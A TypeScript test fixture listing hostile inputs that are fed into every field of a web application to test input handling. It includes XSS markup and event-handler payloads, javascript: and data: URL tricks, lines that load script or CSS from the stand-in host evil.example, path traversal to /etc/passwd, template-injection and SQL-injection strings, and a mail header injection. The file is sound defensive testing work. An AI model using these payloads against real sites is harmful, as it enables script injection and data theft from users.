// Texts that somebody could type, paste, store or import to do harm. Every field of every collection gets each of
// them. What would run says so: it sets `globalThis.ran`.

export const RUN = 'globalThis.ran=1';

const letters = (...codes: number[]) => String.fromCharCode(...codes);
const NUL = letters(0);
const CONTROLS = letters(...Array.from({ length: 32 }, (_, at) => at), 0x7f, 0x80, 0x85, 0x9f);

const markup = {
  'a script': `<script>${RUN}</script>`,
  'the end of a script': `</script><script>${RUN}</script>`,
  'a comment that opens a script': `<!--<script>${RUN}//-->`,
  'the end of everything': `--></style></title></textarea></template></noscript><script>${RUN}</script>`,
  'an image that fails': `<img src=x onerror=${RUN}>`,
  'a drawing that loads': `<svg/onload=${RUN}>`,
  'an attribute that ends': `"><img src=x onerror="${RUN}">`,
  'a single quote that ends': `' autofocus onfocus='${RUN}`,
  'a handler without a tag': `x" onmouseover="${RUN}" style="position:fixed;inset:0`,
  'tags that open and load': `<details open ontoggle=${RUN}><SCRIPT SRC=//evil.example/a.js></SCRIPT><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'a base and a refresh':
    '<base href=//evil.example><meta http-equiv=refresh content=0;//evil.example>',
  'a form': `<form action=javascript:${RUN}><button>x`,
  'a style': '</style><style>@import "//evil.example/a.css";*{display:none}',
  'a section of XML': `]]><![CDATA[<x>]]>&lol;<?xml version="1.1"?><!DOCTYPE x [<!ENTITY lol "x">]>`,
  entities: '&lt;img src=x onerror=1&gt; &amp;amp; &#106;avascript&colon;x &nbsp; &notanentity',
} as const;

const links = {
  'a script for a link': `javascript:${RUN}`,
  'a script in mixed case': `JaVaScRiPt:${RUN}`,
  'a script after a space and a tab': ` \tjavascript:${RUN}`,
  'a script with a tab inside': `java\tscript:${RUN}`,
  'a script with line breaks inside': `java\r\nscript\n:${RUN}`,
  'a script after control letters': `${letters(1, 2)}javascript:${RUN}`,
  'a script of another kind': `vbscript:${RUN}`,
  'a page in the link': `data:text/html,<script>${RUN}</script>`,
  'a page in capitals and base64':
    'DATA:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+',
  'a drawing in the link': `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  'a link to a file': 'file:///etc/passwd',
  'another host without a scheme': '//evil.example/a.png',
  'another host with a backslash': '/\\evil.example/a.png',
  'another host behind a tab': '/\t/evil.example/a.png',
  'a link in Markdown': `[x](javascript:${RUN}) ![x](data:text/html,x) <javascript:${RUN}> [y]: javascript:x`,
  'an address that is none': 'http://[::1/%zz?#',
  'a path that climbs': '../../../../etc/passwd%00.png',
  'a mailbox that adds a header': 'a@b.c?bcc=evil@evil.example&body=x\r\nBcc: evil@evil.example',
} as const;

const addresses = {
  'a very long address': `https://example.com/${'a/'.repeat(4000)}?${'b'.repeat(4000)}`,
  'an address with markup': `https://example.com/"><script>${RUN}</script>`,
  'an address in another script': 'https://مثال.example/صفحہ?q=ü#«»',
} as const;

const words = {
  'a placeholder of the texts': '{{name}} {{- name}} $t(nav.label) $t(hero.greeting, {"name":"x"})',
  'a placeholder of the chat': '{name} {email} {constructor} {__proto__}',
  'a template of another kind':
    "{{constructor.constructor('globalThis.ran=1')()}} <%= 7*7 %> #{7*7}",
  'a prototype': '__proto__',
  'a method of every object': 'hasOwnProperty',
  'a formula': `=HYPERLINK("//evil.example","x")\n+1\n-1\n@SUM(A1)`,
  'what other programs read': "1e999 '; DROP TABLE posts; -- undefined null NaN",
  'a percent sign': '50%off %zz %u0041 %E0%A4%A',
  'a pattern': '(a+)+$ [ ( * \\ $& $1',
  Markdown:
    '# x\n\n- [ ] a\n\n|a|b|\n|-|-|\n|`c`|<b>|\n\n```html\n<script>\n```\n\n[^1]\n\n[^1]: note',
  'quotations in quotations': '> '.repeat(300),
  'brackets in brackets': '[![*'.repeat(300),
} as const;

const scripts = {
  'half of an emoji': 'a\ud83d b\ude00 \udc00\ud800',
  'no letter at all': letters(0xfffe, 0xffff, 0xfdd0),
  'a zero letter': `a${NUL}b`,
  'control letters': `a${CONTROLS}b`,
  'line ends of every kind': 'a\r\nb\rc\u2028d\u2029e\u0085f\vg\fh',
  'letters that turn the line': '\u202eevil\u202c \u2066x \u2067y \u200f\u061c',
  'Urdu and Arabic among English': 'میرا نام Hamza ہے، عمر 30 — مُحَمَّد بن ٱلله ﷽',
  'stacked marks': [...'Zalgo'].map((letter) => letter + '\u0351\u036b\u0343'.repeat(6)).join(''),
  'families and flags': '👩🏽‍💻👨‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿🇵🇰🏳️‍🌈 1️⃣',
  'letters nobody sees': '\u200b\u200d\ufeff\u00ad\u2060',
  'spaces alone': ' \t\n\u00a0\u3000 ',
  nothing: '',
} as const;

const sizes = {
  'a word of 200 letters':
    'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamten'.repeat(3),
  'a word of 10,000 letters': Array.from({ length: 10_000 }, (_, at) =>
    ((at * at * 7 + at * 13) % 997).toString(36),
  )
    .join('')
    .slice(0, 10_000),
  'a letter, 10,000 times': 'x'.repeat(10_000),
  '100 kB of text': 'Lorem ipsum <b>dolor</b> & sit. '.repeat(3200),
  '500 lines': Array.from({ length: 500 }, (_, at) => `line ${at}`).join('\n'),
} as const;

/** In groups, for what is too slow to be done with each text alone. */
export const groups = { markup, links, addresses, words, scripts, sizes };

export const payloads: [name: string, text: string][] = Object.values(groups).flatMap((group) =>
  Object.entries(group),
);
